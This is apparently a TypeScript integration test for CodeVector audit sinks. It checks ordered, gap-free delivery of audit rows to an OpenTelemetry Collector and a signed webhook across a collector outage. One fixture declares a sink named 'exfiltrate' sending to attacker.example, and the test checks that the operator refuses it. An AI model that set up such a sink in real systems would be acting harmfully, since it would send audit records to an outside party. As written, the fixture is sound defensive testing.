import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startAuditSealer } from '@codevector/console-api/audit/audit-sealer';
import { createPool, type DatabasePool, sql } from '@codevector/core/create-pool';
import { createLogger } from '@codevector/core/logger';
import { writeAuditEntry } from '@codevector/core/write-audit-entry';
import { webhookSignature } from '@codevector/operator/audit-sink/sink-formats';
import { buildOperator, type Operator } from '@codevector/operator/build-operator';
import { loadOperatorConfig } from '@codevector/operator/config';
import { freePort } from '@codevector/testbed/free-port';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';

// AuditSinks against a real OpenTelemetry Collector (built with the collector builder from the
// Go module proxy: OTLP/HTTP receiver, file exporter) and a signed webhook: every sealed audit
// row arrives, in order, with its chain sequence and hash, and a sink stopped for a while under
// traffic gets everything it missed when it comes back: no gap.
const outageSeconds = Number(process.env['CODEVECTOR_SINK_OUTAGE_SECONDS'] ?? 60);
const repoRoot = path.resolve(import.meta.dirname, '../../..');
const log = createLogger({ name: 'audit-sink-test', level: 'silent' });
const hmacKey = 'webhook-hmac-key-0123456789abcdef';
let db: DatabasePool;
let dir: string;
let operator: Operator;
let stopSealer: () => Promise<void>;
let collector: ChildProcess | undefined;
let collectorBin: string;
let otlpPort: number;
let webhook: Server;
const webhookRows: { seq: number; hash: string }[] = [];
let badSignatures = 0;

async function startCollector(output: string): Promise<ChildProcess> {
  const config = path.join(dir, `collector-${path.basename(output)}.yaml`);
  await writeFile(
    config,
    [
      'receivers:',
      '  otlp:',
      '    protocols:',
      '      http:',
      `        endpoint: 127.0.0.1:${otlpPort}`,
      'exporters:',
      '  file:',
      `    path: ${output}`,
      '    flush_interval: 100ms',
      'service:',
      '  telemetry:',
      '    metrics:',
      '      level: none',
      '  pipelines:',
      '    logs:',
      '      receivers: [otlp]',
      '      exporters: [file]',
      '',
    ].join('\n'),
  );
  const child = spawn(collectorBin, ['--config', config], { stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr?.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  for (let i = 0; i < 200; i++) {
    const up = await fetch(`http://127.0.0.1:${otlpPort}/v1/logs`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    }).then(
      () => true,
      () => false,
    );
    if (up) return child;
    if (child.exitCode !== null) throw new Error(`collector exited: ${stderr.slice(-2000)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`collector did not start: ${stderr.slice(-2000)}`);
}

/** The (seq, hash) of every log record the collector wrote to its file exporter outputs. */
async function collectorRows(files: string[]): Promise<{ seq: number; hash: string }[]> {
  const rows: { seq: number; hash: string }[] = [];
  for (const file of files) {
    const text = await readFile(file, 'utf8').catch(() => '');
    for (const line of text.split('\n').filter(Boolean)) {
      const request = JSON.parse(line) as {
        resourceLogs: {
          scopeLogs: { logRecords: { attributes: { key: string; value: { intValue?: string; stringValue?: string } }[] }[] }[];
        }[];
      };
      for (const resource of request.resourceLogs)
        for (const scope of resource.scopeLogs)
          for (const record of scope.logRecords) {
            const attr = (key: string) => record.attributes.find((a) => a.key === key)?.value;
            rows.push({ seq: Number(attr('audit.seq')?.intValue), hash: String(attr('audit.hash')?.stringValue) });
          }
    }
  }
  return rows;
}

const chain = () =>
  db.any(
    sql.type(
      z.object({ seq: z.number(), hash: z.string() }),
    )`select seq::float8 as seq, encode(hash, 'hex') as hash from audit_chain order by seq`,
  );
const cursorOf = (name: string) =>
  db.maybeOneFirst(sql.type(z.object({ s: z.number() }))`
    select c.delivered_seq::float8 as s from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid where s.name = ${name}`);

/** Gaps (sequence numbers never received) and duplicates that disagree with the chain. */
function check(received: readonly { seq: number; hash: string }[], expected: readonly { seq: number; hash: string }[]) {
  const got = new Map<number, Set<string>>();
  for (const row of received) got.set(row.seq, (got.get(row.seq) ?? new Set()).add(row.hash));
  const gaps = expected.filter((row) => !got.has(row.seq)).length;
  const wrong = expected.filter((row) => got.has(row.seq) && (got.get(row.seq)!.size !== 1 || !got.get(row.seq)!.has(row.hash))).length;
  return { gaps, wrong, duplicates: received.length - got.size };
}

beforeAll(async () => {
  collectorBin = execFileSync('bash', [path.join(repoRoot, 'scripts/otel-collector.sh')], { encoding: 'utf8' }).trim();
  db = await createPool(process.env['DATABASE_URL']!);
  dir = await mkdtemp(path.join(tmpdir(), 'cv-sinks-'));
  otlpPort = await freePort();
  webhook = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const signature = webhookSignature(hmacKey, String(req.headers['x-codevector-timestamp']), body);
      if (signature !== req.headers['x-codevector-signature']) {
        badSignatures++;
        res.writeHead(401).end();
        return;
      }
      for (const row of (JSON.parse(body) as { rows: { seq: number; hash: string }[] }).rows)
        webhookRows.push({ seq: row.seq, hash: row.hash });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => webhook.listen(0, '127.0.0.1', resolve));
  const webhookUrl = `http://127.0.0.1:${(webhook.address() as AddressInfo).port}/audit`;
  await writeFile(
    path.join(dir, 'sinks.yaml'),
    `apiVersion: v1
kind: Secret
metadata: { name: siem-webhook, namespace: codevector, labels: { codevector.dev/provider-secret: "true" } }
stringData: { hmac: ${hmacKey} }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: otel, namespace: codevector }
spec: { type: otlp, otlp: { endpoint: "http://127.0.0.1:${otlpPort}/v1/logs" }, batchSize: 50 }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: siem, namespace: codevector }
spec: { type: webhook, webhook: { url: "${webhookUrl}", hmacSecretRef: { name: siem-webhook, key: hmac } } }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: exfiltrate, namespace: team-a }
spec: { type: webhook, webhook: { url: "https://attacker.example/collect", hmacSecretRef: { name: x, key: y } } }
`,
  );
  collector = await startCollector(path.join(dir, 'out-1.json'));
  stopSealer = startAuditSealer(db, log, 100);
  const config = loadOperatorConfig({
    DATABASE_URL: process.env['DATABASE_URL'],
    CODEVECTOR_ENCRYPTION_KEY: randomBytes(32).toString('base64'),
    CODEVECTOR_OPERATOR_NAMESPACE: 'codevector',
    CODEVECTOR_AUDIT_DELIVERY_MS: '200',
  });
  operator = buildOperator({ config, db, log, source: { type: 'dir', dir } });
  await operator.start();
}, 600_000);

afterAll(async () => {
  await operator?.stop();
  await stopSealer?.();
  collector?.kill('SIGKILL');
  await new Promise<void>((resolve) => (webhook ? webhook.close(() => resolve()) : resolve()));
  await db?.end();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('AuditSink', () => {
  it('refuses a sink outside the installation namespace, on the record', async () => {
    await expect
      .poll(() =>
        db.anyFirst(sql.type(z.object({ action: z.string() }))`select action from audit_log where target_name = 'team-a/exfiltrate'`),
      )
      .toEqual(['audit_sink.refused']);
  });

  it(
    `streams every row, in order, through a ${outageSeconds} s outage of the collector under traffic, with no gap`,
    async () => {
      let writing = true;
      let written = 0;
      const traffic = (async () => {
        while (writing) {
          await db.transaction((tx) =>
            writeAuditEntry(tx, {
              action: 'gateway.rate_limit_exceeded',
              targetType: 'api_key',
              targetName: `key-${written % 7}`,
              actor: `dev${written % 5}@example.com`,
              actorSource: 'gateway',
              detail: { n: written },
            }),
          );
          written++;
          await new Promise((resolve) => setTimeout(resolve, 25));
        }
      })();
      const outputs = [path.join(dir, 'out-1.json')];
      // Delivering before the outage.
      await expect.poll(async () => (await collectorRows(outputs)).length, { timeout: 30_000 }).toBeGreaterThan(20);

      collector?.kill('SIGTERM');
      await new Promise((resolve) => collector?.once('exit', resolve));
      const down = performance.now();
      await new Promise((resolve) => setTimeout(resolve, outageSeconds * 1000));
      const stalled = await cursorOf('otel');
      expect((await chain()).at(-1)!.seq).toBeGreaterThan(stalled ?? 0);
      outputs.push(path.join(dir, 'out-2.json'));
      collector = await startCollector(outputs[1]!);
      const outage = (performance.now() - down) / 1000;

      await new Promise((resolve) => setTimeout(resolve, 2000));
      writing = false;
      await traffic;
      const head = async () => (await chain()).at(-1)?.seq ?? 0;
      await expect
        .poll(async () => (await cursorOf('otel')) === (await head()) && (await cursorOf('siem')) === (await head()), { timeout: 60_000 })
        .toBe(true);

      const expected = await chain();
      const otel = check(await collectorRows(outputs), expected);
      const siem = check(webhookRows, expected);
      console.log(`sink_gap_rows=${otel.gaps + siem.gaps} sink_outage_s=${outage.toFixed(1)} rows=${expected.length} written=${written}`);
      expect(otel).toMatchObject({ gaps: 0, wrong: 0 });
      expect(siem).toEqual({ gaps: 0, wrong: 0, duplicates: 0 });
      expect(badSignatures).toBe(0);
      // In order: each receiver saw sequence numbers rising, except resends after the outage.
      expect(webhookRows.map((r) => r.seq)).toEqual([...webhookRows.map((r) => r.seq)].sort((a, b) => a - b));
    },
    240_000 + outageSeconds * 1000,
  );

  it('reports progress and the failure of the outage in the sink’s state', async () => {
    const state = await db.one(sql.type(z.object({ failures: z.number(), last_error: z.string().nullable() }))`
      select failures::int, last_error from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid where s.name = 'otel'`);
    expect(state.failures).toBeGreaterThan(0);
    expect(state.last_error).toMatch(/ECONNREFUSED|failed/);
  });
});
